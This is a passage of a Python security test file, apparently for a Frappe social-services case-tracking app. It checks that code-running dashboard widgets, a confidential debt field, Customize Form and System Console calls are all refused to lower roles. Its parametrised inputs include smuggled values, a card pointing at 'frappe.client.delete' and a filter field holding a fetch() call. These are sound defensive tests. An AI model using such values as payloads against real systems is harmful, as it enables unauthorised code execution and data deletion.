			}
		).insert()
	for user, structure in ((monde.resp_a, monde.a), (monde.resp_b, monde.b)):
		with as_user(user):
			attendu = len(frappe.get_list("Beneficiaire", limit_page_length=0))
			assert get_result(carte.as_dict(), "[]") == attendu
			donnees = donnees_du_graphique(chart_name=graphique.name, refresh=1)
			assert donnees["labels"] == [structure]


@pytest.mark.parametrize(
	"doctype, valeurs",
	[
		("Number Card", {"type": "Custom", "method": "frappe.client.delete"}),
		("Number Card", {"dynamic_filters_json": '{"structure": "fetch(\'/api/method/x\')"}'}),
		("Number Card", {"is_standard": 1, "module": "Dossiers"}),
		("Dashboard Chart", {"chart_type": "Custom", "source": "x"}),
		("Dashboard Chart", {"chart_type": "Report", "report_name": "x"}),
	],
)
def test_indicateurs_qui_executent_du_code(monde, doctype, valeurs):
	base = {
		"Number Card": {
			"label": "Piégée (test)",
			"document_type": "Beneficiaire",
			"function": "Count",
			"type": "Document Type",
		},
		"Dashboard Chart": {
			"chart_name": "Piégé (test)",
			"chart_type": "Count",
			"document_type": "Beneficiaire",
			"based_on": "creation",
		},
	}[doctype]
	with as_user(monde.resp_a):
		with pytest.raises(PersonnalisationRefusee):
			frappe.get_doc({"doctype": doctype, **base, **valeurs}).insert(
				ignore_permissions=True, ignore_links=True
			)


# --- A custom field marked confidential ---------------------------------------------------------


def test_un_champ_personnalise_confidentiel_est_cache_a_l_accueil(monde, champs_de_test):
	from frappe.desk import reportview

	from suivi_social import overrides
	from tests.securite.test_autres_voies import exporter

	fieldname = f"{PREFIXE}dette"
	with as_user(monde.resp_a):
		personnaliser("Beneficiaire", lambda f: ajouter_champ(f, "dette", permlevel=1))
	with as_user(monde.ts_a):
		ben = frappe.get_doc("Beneficiaire", monde.ben_a.name)
		ben.set(fieldname, "Dette de 4321 euros")
		ben.save(ignore_version=False)
		assert frappe.client.get("Beneficiaire", monde.ben_a.name)[fieldname] == "Dette de 4321 euros"

	with as_user(monde.acc_a):
		# Form (getdoc, and the history it carries)
		frappe.local.response = frappe._dict(docs=[])
		overrides.getdoc("Beneficiaire", monde.ben_a.name)
		assert not frappe.response.docs[0].get(fieldname)
		assert "4321" not in json.dumps([v.data for v in frappe.response.docinfo.versions])
		# List and Report Builder (reportview.get)
		frappe.local.form_dict = frappe._dict(
			doctype="Beneficiaire", fields=json.dumps(["name", fieldname]), filters="[]", view="Report"
		)
		resultat = reportview.get()
		assert fieldname not in resultat["keys"]
		assert "4321" not in json.dumps(resultat["values"])
		# A filter would tell the value
		with pytest.raises(frappe.PermissionError):
			frappe.get_list("Beneficiaire", filters={fieldname: ["like", "%4321%"]})
		# No export at all for the accueil
		with pytest.raises(frappe.PermissionError):
			exporter("Beneficiaire", ["name", fieldname])

	# A role that may export but not read level 1 (the platform administrator): no column.
	admin = make_user("admin-perso@test.fr", ADMINISTRATEUR)
	with as_user(admin):
		csv = exporter("Beneficiaire", ["name", "nom_usage", fieldname])
	assert "Martin" in csv and "4321" not in csv and "Perso test dette" not in csv


# --- Over HTTP, as the desk calls them ------------------------------------------------------------


def appeler_la_methode(token: str, doctype: str, methode: str, par_nom: bool = False, **valeurs):
	"""POST /api/method/run_doc_method, as frm.call() sends it (test_http.requete, whose own first
	parameter is named `method` too)."""
	from threading import Thread

	from frappe.app import application
	from werkzeug.test import Client

	from tests.conftest import TEST_SITE

	donnees = {"method": methode}
	if par_nom:  # the Single as stored, as a page calls it
		donnees.update(dt=doctype, dn=doctype)
	else:
		donnees["docs"] = json.dumps({"doctype": doctype, "name": doctype, **valeurs})
	resultat = {}

	def envoyer():
		with patch("frappe.app.get_site_name", return_value=TEST_SITE):
			resultat["r"] = Client(application).post(
				"/api/method/run_doc_method", headers={"Authorization": token}, data=donnees
			)

	fil = Thread(target=envoyer)
	fil.start()
	fil.join()
	return resultat["r"]


def test_http_personnaliser_le_formulaire(monde, cles):  # noqa: F811
	token = cles[monde.resp_a]
	r = appeler_la_methode(token, "Customize Form", "fetch_to_customize", doc_type="Beneficiaire")
	assert r.status_code == 200, r.json
	assert any(f["fieldname"] == "numero_securite_sociale" for f in r.json["docs"][0]["fields"])
	r = appeler_la_methode(token, "Customize Form", "fetch_to_customize", doc_type="User")
	assert r.status_code == 403
	assert "seuls les types de document de Suivi social" in r.text


def test_http_pas_de_console_systeme(monde, cles):  # noqa: F811
	r = appeler_la_methode(cles[monde.resp_a], "System Console", "execute_code", par_nom=True)
	assert r.status_code == 403
	# The Travailleur social has no Customize Form at all.
	r = appeler_la_methode(cles[monde.ts_a], "Customize Form", "fetch_to_customize", doc_type="Beneficiaire")
	assert r.status_code == 403
